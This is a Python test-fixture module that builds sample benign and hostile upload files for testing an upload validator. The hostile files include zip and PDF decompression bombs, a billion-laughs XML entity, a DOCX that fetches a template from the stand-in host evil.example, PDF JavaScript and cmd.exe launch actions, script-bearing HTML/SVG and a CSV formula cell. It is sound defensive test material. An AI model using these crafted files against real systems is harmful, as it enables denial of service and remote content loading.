"""Files that somebody could send, honest and hostile, made here so that nothing dangerous lies in the repository."""

import base64
import io
import struct
import zipfile
import zlib

TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
    'wordprocessingml.document.main+xml"/></Types>'
)
TEXT = '<?xml version="1.0"?><w:document xmlns:w="x"><w:body/></w:document>'
LAUGHS = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><a>&c;</a>'
MEGABYTE = 1_000_000


def package(parts: dict[str, str | bytes] | None = None, **changed: str | bytes) -> bytes:
    """A DOCX of these parts beside the two that it needs."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        base: dict[str, str | bytes] = {"[Content_Types].xml": TYPES, "word/document.xml": TEXT}
        for name, text in (base | (parts or {}) | changed).items():
            made.writestr(name, text)
    return out.getvalue()


def pdf(inside: bytes = b"", head: bytes = b"", after: bytes = b"") -> bytes:
    stream = b"4 0 obj << /Length %d %s >>\nstream\n%s\nendstream\nendobj\n" % (len(inside), head, inside)
    return b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n" + stream + b"trailer << >>\nstartxref\n0\n%%EOF\n" + after


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png(width: int = 1, height: int = 1, extra: bytes = b"") -> bytes:
    size = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\0\0")
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + extra + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def jpeg(width: int = 8, height: int = 8) -> bytes:
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    scan = b"\xff\xda" + struct.pack(">HB", 8, 1) + b"\x01\x00\x00\x3f\x00" + b"\x12\x34\xff\x00\x56"
    return b"\xff\xd8" + frame + scan + b"\xff\xd9"


def zeros(megabytes: int) -> bytes:
    packer = zlib.compressobj(9)
    return b"".join(packer.compress(bytes(MEGABYTE)) for _number in range(megabytes)) + packer.flush()


def overlapping() -> bytes:
    """Many entries of the directory that share one body."""
    data = package({"word/big.bin": bytes(100_000)})
    start = data.find(b"PK\x01\x02")
    end = data.rfind(b"PK\x05\x06")
    last = data.rfind(b"PK\x01\x02", start, end)
    entry = data[last : last + 46]
    again = b"".join(entry + b"word/%03d.bin" % number for number in range(400))
    count = data.count(b"PK\x01\x02", start, end) + 400
    directory = data[start:end] + again
    tail = b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, count, count, len(directory), start, 0)
    return data[:start] + directory + tail


def lying() -> bytes:
    """An entry that declares one byte and unpacks to very many."""
    data = bytearray(package({"word/big.bin": bytes(50 * MEGABYTE)}))
    entry = data.rfind(b"PK\x01\x02")
    data[entry + 24 : entry + 28] = struct.pack("<I", 1)
    return bytes(data)


def nested() -> bytes:
    inner = package({f"word/{number}.bin": bytes(5 * MEGABYTE) for number in range(8)})
    return package({"word/inner.bin": inner})


def armoured() -> bytes:
    return pdf(base64.a85encode(zeros(200)) + b"~>", b"/Filter [/ASCII85Decode /FlateDecode]")


HONEST = {
    "plan.docx": package(),
    "plan.pdf": pdf(zlib.compress(b"BT (Plan) Tj ET"), b"/Filter /FlateDecode"),
    "drawn.pdf": pdf(base64.a85encode(zlib.compress(b"BT ET")) + b"~>", b"/Filter [/ASCII85Decode /FlateDecode]"),
    "picture.png": png(),
    "photo.JPG": jpeg(),
    "jobs.csv": "Métier;Nombre\nSoudeuse;12\n".encode(),
}

TYPE_BOMB = b"1 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj"
HOSTILE = {
    "flat bomb.docx": package({"word/big.bin": bytes(200 * MEGABYTE)}),
    "many entries.docx": package({f"word/{number}.xml": "x" for number in range(2000)}),
    "nested bomb.docx": nested(),
    "overlapping entries.docx": overlapping(),
    "lying size.docx": lying(),
    "billion laughs.docx": package({"word/styles.xml": LAUGHS}),
    "macro.docx": package({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "program.docx": package({"word/media/run.exe": b"MZ\x90"}),
    "loads.docx": package(
        {
            "word/_rels/document.xml.rels": '<Relationships><Relationship Id="1" Type="http://x/attachedTemplate" '
            'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
        }
    ),
    "utf16.docx": package({"word/styles.xml": "<!DOCTYPE a>".encode("utf-16")}),
    "zip.docx": package({"[Content_Types].xml": "<Types/>"}),
    "comment.docx": package()[:-2] + struct.pack("<H", 4) + b"%PDF",
    "cut off.docx": package()[:-30],
    "wide.png": png(60_000, 60_000),
    "flat.png": png(0, 1),
    "text bomb.png": png(extra=chunk(b"zTXt", b"Comment\0\0" + zeros(200))),
    "profile bomb.png": png(extra=chunk(b"iCCP", b"Profile\0\0" + zeros(200))),
    "appended.png": png() + package(),
    "wrong sum.png": png().replace(b"IDAT", b"IDAt"),
    "cut off.png": png()[:-6],
    "wide.jpg": jpeg(60_000, 60_000),
    "appended.jpg": jpeg() + package(),
    "cut off.jpg": jpeg()[:-2],
    "bomb.pdf": pdf(zeros(400), b"/Filter /FlateDecode"),
    "armoured bomb.pdf": armoured(),
    "doubled.pdf": pdf(zlib.compress(zeros(400)), b"/Filter [/FlateDecode /FlateDecode]"),
    "script.pdf": pdf(after=b"").replace(b"1 0 obj << /Type /Catalog >> endobj", TYPE_BOMB),
    "hidden script.pdf": pdf().replace(b"/Type /Catalog", b"/OpenAction << /S /Java#53cript >>"),
    "packed script.pdf": pdf(zlib.compress(TYPE_BOMB), b"/Type /ObjStm /Filter /FlateDecode"),
    "launch.pdf": pdf().replace(b"/Type /Catalog", b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    "inside.pdf": pdf().replace(b"/Type /Catalog", b"/Names << /EmbeddedFiles 1 0 R >>"),
    "protected.pdf": pdf().replace(b"trailer << >>", b"trailer << /Encrypt 5 0 R >>"),
    "and zip.pdf": pdf(after=package()),
    "in zip.pdf": package({"x.pdf": pdf()}),
    "and page.pdf": b"%PDF-1.7\n<html><script>alert(1)</script>" + pdf(),
    "cut off.pdf": pdf()[:60],
    "many streams.pdf": b"%PDF-1.7\n" + b"stream\nendstream\n" * 500_000 + b"%%EOF",
    "page.csv": b"<html><script>alert(1)</script></html>",
    "formula.csv": b"a,b\n1,=HYPERLINK(1)\n",
    "binary.csv": bytes(range(256)),
    "long.csv": b"x" * 5 * MEGABYTE,
    "program.pdf": b"MZ\x90\0" + bytes(100),
    "picture.pdf": png(),
    "page.html": b"<html></html>",
    "drawing.svg": b"<svg onload='alert(1)'/>",
    "nothing.pdf": b"",
}
